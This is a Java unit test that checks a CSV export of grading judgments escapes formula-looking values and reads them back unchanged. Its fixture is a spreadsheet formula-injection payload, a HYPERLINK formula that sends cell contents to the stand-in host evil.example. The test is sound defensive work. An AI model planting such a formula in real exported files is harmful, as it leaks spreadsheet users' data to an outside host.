package dev.parity.judgments;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** A judgments file opened in a spreadsheet shows formula-looking text as text, and reads back the same. */
class JudgmentsCsvSpreadsheetTest {
  private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";

  private static Judgment judgment(String model, String rationale, Double minutes) {
    return new Judgment("t-1", model, null, "e1", GraderType.HUMAN, Outcome.WIN, 0, "Paralegals",
        "Legal Services", minutes, rationale);
  }

  @Test
  void aFormulaLookingRationaleIsWrittenAsTextAndReadBackAsItWas() {
    List<Judgment> judgments = List.of(judgment("@model", FORMULA, 12.5),
        judgment("gpt-5", "-1 point for tone; '=quoted' stays", null), judgment("gpt-5", "'=already quoted", 3.0));
    StringWriter out = new StringWriter();

    JudgmentsCsv.write(judgments, out);

    assertThat(out.toString()).contains("\"'=HYPERLINK(").contains("'@model").doesNotContain(",=HYPERLINK")
        .contains("'-1 point for tone").contains("''=already quoted").contains(",12.5,");
    assertThat(JudgmentsCsv.read("x", new StringReader(out.toString()), id -> Optional.empty()))
        .isEqualTo(judgments);
  }
}
